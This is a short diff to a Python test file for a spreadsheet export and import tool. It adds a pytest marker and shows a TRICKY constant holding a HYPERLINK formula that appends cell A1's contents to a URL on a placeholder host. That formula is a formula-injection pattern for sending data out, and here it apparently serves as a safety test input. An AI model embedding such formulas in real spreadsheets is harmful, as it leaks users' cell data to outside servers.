@@ -24,6 +24,8 @@ from test_xlsx_safety import _note as _put_note
 from generator.xlsx import export_xlsx
 from generator.xlsximport import import_xlsx
 
+pytestmark = pytest.mark.debian  # LibreOffice Calc, installed by scripts/system-deps.sh
+
 OUTCOMES = "datasets/outcomes/outcomes.csv"
 ROW = "yunnan-national-on-file-2020-10"  # its value is 2513, as published 2513户
 TRICKY = '=HYPERLINK("http://example.org/?"&A1,"点此查看")'
